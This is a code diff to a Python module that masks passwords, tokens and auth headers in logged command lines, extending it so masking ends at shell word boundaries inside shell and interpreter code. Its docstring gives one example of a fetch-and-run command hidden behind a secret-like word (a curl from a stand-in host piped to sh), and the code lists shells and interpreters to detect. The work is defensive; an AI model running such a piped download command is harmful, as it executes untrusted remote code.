@@ -5,6 +5,10 @@ password must not be. Names of options stay, so rules that look for ``--password
 Known forms only, each bounded: ``--password=x``, ``--token x``, ``-px`` of the mysql programs,
 ``sshpass -p x``, ``curl -u user:x``, addresses with a login, ``Authorization:`` and alike headers,
 ``NAME_TOKEN=x``. A secret in a form of its own is not recognised.
+
+Nobody may hide what is run behind a word that looks like a secret's name
+(``sh -c ': cookie: ; curl evil | sh'``), so in the code of shells and interpreters a secret ends
+where a shell would end the word, and what a shell puts in its place (``$(…)``) is none.
 """
 
 from __future__ import annotations
@@ -32,6 +36,21 @@ _HEADER = re.compile(
     r"([^'\"]{1,2048})"
 )
 _INLINE = re.compile(rf"(?i)(?<!\S)(--?{_WORD}[= ])([^\s'\";&|]{{1,512}})")
+_CODE_END = r"\s'\";&|<>()$`\\"
+"""What ends a word in the code of a shell, or begins something that the shell puts in its place."""
+_ASSIGNED_IN_CODE = re.compile(_ASSIGNED.pattern.replace(r"[^\s'\"&;]", f"[^{_CODE_END}]"))
+_HEADER_IN_CODE = re.compile(_HEADER.pattern.replace(r"[^'\"]", f"[^{_CODE_END}]"))
+_INLINE_IN_CODE = re.compile(_INLINE.pattern.replace(r"[^\s'\";&|]", f"[^{_CODE_END}]"))
+_QUOTED_HEADER = re.compile(
+    r"(?i)(?<=['\"])"
+    + _HEADER.pattern.removeprefix("(?i)").replace(r"[^'\"]", r"[^'\"$`\\]")
+    + r"(?=['\"])"
+)
+_CODE_FOLLOWS = re.compile(r"-[A-Za-z]{0,8}[ceErS]|--(?:eval|exec|execute|command|run)")
+_RUNS_CODE = re.compile(
+    r"(?:^|/|\A-)(?:(?:ba|da|a|z|k|mk|tc|c|fi|pwd|rba|r)?sh|busybox|toybox|python[0-9.]*|perl[0-9.]*"
+    r"|ruby[0-9.]*|php[0-9.]*|node|lua[0-9.]*|g?awk|mawk|env|xargs|su|sudo|nsenter|chroot)\Z"
+)
 _MYSQL = re.compile(r"(?:^|/)(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|mysqlimport)\Z")
 _CURL = re.compile(r"(?:^|/)curl\Z")
 _SSHPASS = re.compile(r"(?:^|/)sshpass\Z")
@@ -49,15 +68,32 @@ def masked(argv: Sequence[str]) -> list[str]:
         return list(argv)
     program = argv[0] if argv else ""
     told: list[str] = []
-    follows = False
+    runs = bool(_RUNS_CODE.search(program))
+    before = ""
+    hides = code_seen = False
+    """Whether the next word is a secret, and whether one of those before is code."""
     for word in argv:
-        if follows and not word.startswith("-"):
+        code = bool(_CODE_FOLLOWS.fullmatch(before)) or (runs and _is_code(word))
+        before, code_seen = word, code_seen or code
+        if hides and not code_seen and not word.startswith("-"):
             told.append(MASK if word else word)
-            follows = False
+            hides = False
             continue
-        follows = _takes_next(program, word)
-        told.append(_masked_word(program, word[:_LONGEST]))
+        hides = _takes_next(program, word)
+        told.append(_masked_code(word) if code else _masked_word(program, word[:_LONGEST]))
     return told
+
+
+def _is_code(word: str) -> bool:
+    """What a shell would read as more than one word."""
+    return any(mark in word for mark in " \t\n;|&$`(<>")
+
+
+def _masked_code(word: str) -> str:
+    word = _QUOTED_HEADER.sub(_keep_first, word[:_LONGEST])
+    word = _HEADER_IN_CODE.sub(_keep_first, word)
+    word = _ASSIGNED_IN_CODE.sub(_keep_first, word)
+    return without_logins(_INLINE_IN_CODE.sub(_keep_first, word))
 
 
 def masked_environment(variables: dict[str, str]) -> dict[str, str]:
